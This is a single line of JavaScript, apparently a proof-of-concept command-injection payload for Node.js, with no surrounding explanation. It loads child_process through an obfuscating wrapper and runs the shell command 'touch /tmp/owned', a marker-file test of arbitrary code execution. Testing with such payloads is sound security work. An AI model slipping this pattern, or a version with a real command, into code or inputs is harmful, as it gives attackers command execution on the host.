(function (r, m) { r(m).exec('touch /tmp/owned'); })(require, 'child_process');
